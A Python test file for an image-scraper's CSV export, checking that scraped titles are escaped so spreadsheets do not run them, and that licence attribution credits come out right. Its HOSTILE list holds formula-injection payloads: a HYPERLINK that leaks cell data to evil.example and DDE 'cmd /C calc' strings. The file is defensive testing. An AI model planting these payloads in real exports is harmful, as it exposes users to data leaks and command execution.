"""`scrape --export`: manifest.csv holds text taken from the internet; a spreadsheet must never run it."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from officescore.scrape.export import EXPORT_COLUMNS, _licence, credit, csv_cell, export
from officescore.scrape.manifest import Manifest
from officescore.scrape.providers import SearchResult

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _manifest_with(tmp_path: Path, titles: list[str], creators: list[str]) -> Path:
    raw = tmp_path / "raw"
    raw.mkdir()
    results = [
        SearchResult(url=f"https://images.example/{i}.jpg", title=title, creator=creator, license="by")
        for i, (title, creator) in enumerate(zip(titles, creators, strict=True))
    ]
    with Manifest.open(raw) as manifest:
        manifest.record_page("openverse", "=cmd|x", "", 1, results, last=True, rights="by", when="now")
    return raw


def test_hostile_titles_are_written_as_text(tmp_path: Path) -> None:
    titles = [*HOSTILE, "A quiet desk", "year 2024 - a desk"]
    creators = ["=evil()", *(["plain"] * (len(titles) - 1))]
    raw = _manifest_with(tmp_path, titles, creators)
    result = export(raw, tmp_path / "export")
    with result.csv.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    expected = [f"'{t}" for t in HOSTILE] + ["A quiet desk", "year 2024 - a desk"]
    assert [row["title"] for row in rows] == expected
    assert rows[0]["creator"] == "'=evil()" and rows[1]["creator"] == "plain"
    assert {row["query"] for row in rows} == {"'=cmd|x"}
    # Nothing else changes: plain text, URLs and numbers are written as they were.
    assert rows[7]["url"] == "https://images.example/7.jpg" and rows[7]["page"] == "1"
    assert list(rows[0]) == list(EXPORT_COLUMNS)
    # No cell anywhere in the file starts a formula.
    with result.csv.open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize(
    ("value", "cell"),
    [("=1", "'=1"), ("+1", "'+1"), ("-1", "'-1"), ("@a", "'@a"), ("\tx", "'\tx"), ("\rx", "'\rx")]
    + [("a=1", "a=1"), ("", ""), (None, ""), (-3, -3), (2.5, 2.5), (" =1", " =1")],
)
def test_csv_cell(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def _row(**fields: object) -> dict[str, object]:
    base = dict.fromkeys(("title", "creator", "creator_url", "landing_page", "source", "url"), None)
    base.update(provider="wikimedia", title="Desk", creator="Maker", landing_page="https://x.example/p")
    return {**base, "license_url": None, "license_version": None, **fields}


@pytest.mark.parametrize(
    ("licence", "version", "given", "link"),
    [
        ("by", "4.0", None, "https://creativecommons.org/licenses/by/4.0/"),
        ("by-nc-sa", "2.0", None, "https://creativecommons.org/licenses/by-nc-sa/2.0/"),
        ("cc0", "1.0", None, "https://creativecommons.org/publicdomain/zero/1.0/"),
        ("pdm", "1.0", None, "https://creativecommons.org/publicdomain/mark/1.0/"),
        (
            "by",
            "3.0",
            "https://creativecommons.org/licenses/by/3.0/de/",
            "https://creativecommons.org/licenses/by/3.0/de/",
        ),
        ("by", None, None, None),  # no version: no deed to guess
    ],
)
def test_a_cc_credit_links_its_licence_even_when_the_provider_gave_no_url(
    licence: str, version: str | None, given: str | None, link: str | None
) -> None:
    """A CC BY credit must link the licence (TASL); a provider that gave the code and version but
    no URL got an unlinked licence name. ATTRIBUTION.md's licence line links the same deed."""
    row = _row(license=licence, license_version=version, license_url=given)
    line = credit(row)
    licence_line = _licence(row)
    if link is None:
        assert "](" not in line.split(" is licensed under ")[1] and "](" not in licence_line
    else:
        assert line.endswith(f"]({link})") or f"]({link}) (no attribution required" in line, line
        assert licence_line.endswith(f"]({link})"), licence_line


def test_credit_lines_by_kind_of_licence() -> None:
    """Public domain: a courtesy credit, not "licensed under"; CC: TASL with the source's own name and
    Markdown-safe text; no licence stated: the landing page, else the image URL, to check by hand."""
    # Commons' public domain: no mark, no deed; credited as what Commons says.
    pd = credit(_row(license="pd", license_version=None, source="wikimedia_commons"))
    assert pd == (
        '["Desk"](https://x.example/p) by Maker, via Wikimedia Commons: Public domain '
        "(no attribution required; credited as a courtesy)"
    )
    pdm = credit(_row(license="pdm", license_version="1.0", source="wikimedia_commons"))
    assert pdm == (
        '["Desk"](https://x.example/p) by Maker, via Wikimedia Commons: [Public Domain Mark 1.0]'
        "(https://creativecommons.org/publicdomain/mark/1.0/) "
        "(no attribution required; credited as a courtesy)"
    )
    by = credit(_row(license="by", license_version="4.0", source="flickr", title="Desk | lamp_2"))
    assert by == (
        '["Desk \\| lamp\\_2"](https://x.example/p) by Maker, via Flickr is licensed under '
        "[CC BY 4.0](https://creativecommons.org/licenses/by/4.0/)"
    )
    plain = credit(_row(license="by", license_version="4.0", source="smugmug", title="Desk | lamp_2"), False)
    assert plain == (
        '"Desk | lamp_2" (https://x.example/p) by Maker, via smugmug is licensed under '
        "CC BY 4.0 (https://creativecommons.org/licenses/by/4.0/)"
    )
    unstated = _row(license=None, provider="google", url="https://img.example/1.jpg")
    assert credit(unstated) == "Source: https://x.example/p (licence not stated by google)"
    unstated["landing_page"] = None
    assert credit(unstated) == "Source: https://img.example/1.jpg (licence not stated by google)"


def _licensed(url: str, title: str) -> SearchResult:
    return SearchResult(
        url=url,
        landing_page="https://commons.example/File:Desk",
        title=title,
        license="by",
        license_version="4.0",
        creator="Maker",
        creator_url="https://commons.example/User:Maker",
        source="wikimedia_commons",
    )


def test_a_licence_another_provider_states_for_the_same_photo_reaches_the_credit(tmp_path: Path) -> None:
    """Google states no licence: a photo it found first, found again by Openverse with CC BY (the same
    URL, or a byte-identical copy at another one), is credited under CC BY with the stating provider's
    page, not "licence not stated"; a licence already stated is never replaced."""
    raw = tmp_path / "raw"
    raw.mkdir()
    google = [
        SearchResult(url=f"https://img.example/{n}.jpg", landing_page="https://blog.example/") for n in (1, 2)
    ]
    with Manifest.open(raw) as manifest:
        manifest.record_page("google", "desk", "g", 1, google, False, "cc_attribute", "t")
        again = [
            _licensed("https://img.example/1.jpg", "Desk"),
            _licensed("https://copy.example/2.jpg", "Copy"),
        ]
        assert manifest.record_page("openverse", "desk", "o", 1, again, False, "by", "t") == 1
        other = SearchResult(url="https://img.example/1.jpg", license="cc0", license_version="1.0")
        manifest.record_page("flickr", "desk", "f", 1, [other], True, "cc0", "t")
        ids = {row["url"]: row["id"] for row in manifest.rows()}
        for number, url in enumerate(("https://img.example/1.jpg", "https://img.example/2.jpg"), start=1):
            (raw / f"{number}.jpg").write_bytes(b"jpeg")
            manifest.set_outcome(ids[url], status="ok", path=f"{number}.jpg")
        manifest.set_outcome(
            ids["https://copy.example/2.jpg"], status="duplicate", duplicate_of=ids[google[1].url]
        )
    first, second = Path(export(raw, tmp_path / "export").attribution).read_text().split("### ")[1:]
    by = "[CC BY 4.0](https://creativecommons.org/licenses/by/4.0/)"
    assert first.startswith("`../raw/1.jpg`") and '["Desk"](https://commons.example/File:Desk) by' in first
    assert (
        f"by [Maker](https://commons.example/User:Maker), via Wikimedia Commons is licensed under {by}"
        in first
    )
    # Which provider said so is kept: the finder stays google, the licence is openverse's word.
    assert 'Found via: google, query "desk"; licence stated by openverse' in first
    assert '["Copy"](https://commons.example/File:Desk) by' in second and f"is licensed under {by}" in second
    assert "not stated" not in first + second and "Image URL: https://img.example/2.jpg" in second
    assert "licence stated by openverse" in second
    with (tmp_path / "export" / "manifest.csv").open(newline="", encoding="utf-8") as handle:
        said = {row["url"]: (row["provider"], row["license_from"]) for row in csv.DictReader(handle)}
    assert said["https://img.example/1.jpg"] == ("google", "openverse")
    assert said["https://img.example/2.jpg"] == ("google", "openverse")  # through its licensed copy
    assert said["https://copy.example/2.jpg"] == ("openverse", "openverse")


def test_a_manifest_from_before_license_from_is_read_and_credits_its_finder(tmp_path: Path) -> None:
    """A manifest written before the column existed gets it, empty; a licensed row's credit names no
    other provider, and a byte-identical copy's licence is said to be its finder's."""
    raw = tmp_path / "raw"
    raw.mkdir()
    with Manifest.open(raw) as manifest:
        manifest.record_page(
            "google", "desk", "g", 1, [SearchResult(url="https://img.example/1.jpg")], True, "x", "t"
        )
        manifest.record_page(
            "wikimedia", "desk", "w", 1, [_licensed("https://c.example/1.jpg", "C")], True, "by", "t"
        )
        manifest.set_outcome(1, status="ok", path="1.jpg")
        manifest.set_outcome(2, status="duplicate", duplicate_of=1)
        manifest.db.execute(
            "ALTER TABLE results DROP COLUMN license_from"
        )  # as an older officescore wrote it
    (raw / "1.jpg").write_bytes(b"jpeg")
    (entry,) = Path(export(raw, tmp_path / "export").attribution).read_text().split("### ")[1:]
    assert "CC BY 4.0" in entry and 'query "desk"; licence stated by wikimedia' in entry
    with Manifest.open(raw) as manifest:
        assert [row["license_from"] for row in manifest.rows()] == [None, None]


def test_only_an_unstated_licence_is_taken_and_only_from_a_byte_identical_copy_that_states_one(
    tmp_path: Path,
) -> None:
    """A stated licence stays (CC BY-SA is not CC BY because Commons has the same bytes); a
    near-duplicate (a crop, another edit) may be another work under another licence; a find that
    states none (Google again) neither undoes a copy's that does nor moves the credit's page."""
    raw = tmp_path / "raw"
    raw.mkdir()
    kept = [
        SearchResult(url="https://img.example/1.jpg", title="Own", license="by-sa", license_version="4.0"),
        SearchResult(url="https://img.example/2.jpg", landing_page="https://blog.example/"),
        SearchResult(url="https://img.example/3.jpg", landing_page="https://blog.example/"),
    ]
    copies = [
        _licensed(f"https://copy.example/{n}.jpg", title)
        for n, title in ((1, "Copy"), (2, "Crop"), (3, "Same"))
    ]
    unstated = SearchResult(url="https://copy.example/4.jpg", landing_page="https://other-blog.example/")
    with Manifest.open(raw) as manifest:
        manifest.record_page("openverse", "desk", "o", 1, kept[:1], False, "by-sa", "t")
        manifest.record_page("google", "desk", "g", 1, kept[1:], False, "cc_attribute", "t")
        manifest.record_page("wikimedia", "desk", "w", 1, copies, False, "by", "t")
        again = SearchResult(url=kept[1].url, landing_page="https://elsewhere.example/")  # no licence either
        manifest.record_page("google", "desk", "g", 2, [unstated, again], True, "cc_attribute", "t")
        ids = {row["url"]: row["id"] for row in manifest.rows()}
        for number, photo in enumerate(kept, start=1):
            (raw / f"{number}.jpg").write_bytes(b"jpeg")
            manifest.set_outcome(ids[photo.url], status="ok", path=f"{number}.jpg")
        for copy, status, original in (
            (copies[0], "duplicate", kept[0]),
            (copies[1], "near_duplicate", kept[1]),
            (copies[2], "duplicate", kept[2]),
            (unstated, "duplicate", kept[2]),
        ):
            manifest.set_outcome(ids[copy.url], status=status, duplicate_of=ids[original.url])
    own, crop, same = Path(export(raw, tmp_path / "export").attribution).read_text().split("### ")[1:]
    assert '"Own"' in own and "CC BY-SA 4.0" in own and "Copy" not in own
    assert "Source: https://blog.example/ (licence not stated by google)" in crop and "Crop" not in crop
    assert '"Same"' in same and "CC BY 4.0" in same and "other-blog" not in same
    # Who stated the licence is named only where it was not the finder, and never for no licence.
    assert "licence stated by" not in own + crop and "licence stated by wikimedia" in same
    with (tmp_path / "export" / "manifest.csv").open(newline="", encoding="utf-8") as handle:
        said = {row["url"]: row["license_from"] for row in csv.DictReader(handle)}
    assert (said[kept[0].url], said[kept[1].url]) == ("openverse", "")


def test_a_copy_whose_licence_a_later_provider_stated_credits_that_provider(tmp_path: Path) -> None:
    """Google found the photo and a byte-identical copy, neither licensed; Openverse then found the
    copy with CC BY. The kept photo's credit is the copy's, stated by openverse, not by google."""
    raw = tmp_path / "raw"
    raw.mkdir()
    found = [SearchResult(url=url) for url in ("https://img.example/1.jpg", "https://copy.example/1.jpg")]
    with Manifest.open(raw) as manifest:
        manifest.record_page("google", "desk", "g", 1, found, True, "cc_attribute", "t")
        manifest.record_page("openverse", "desk", "o", 1, [_licensed(found[1].url, "Copy")], True, "by", "t")
        manifest.set_outcome(1, status="ok", path="1.jpg")
        manifest.set_outcome(2, status="duplicate", duplicate_of=1)
    (raw / "1.jpg").write_bytes(b"jpeg")
    (entry,) = Path(export(raw, tmp_path / "export").attribution).read_text().split("### ")[1:]
    assert "CC BY 4.0" in entry and 'Found via: google, query "desk"; licence stated by openverse' in entry
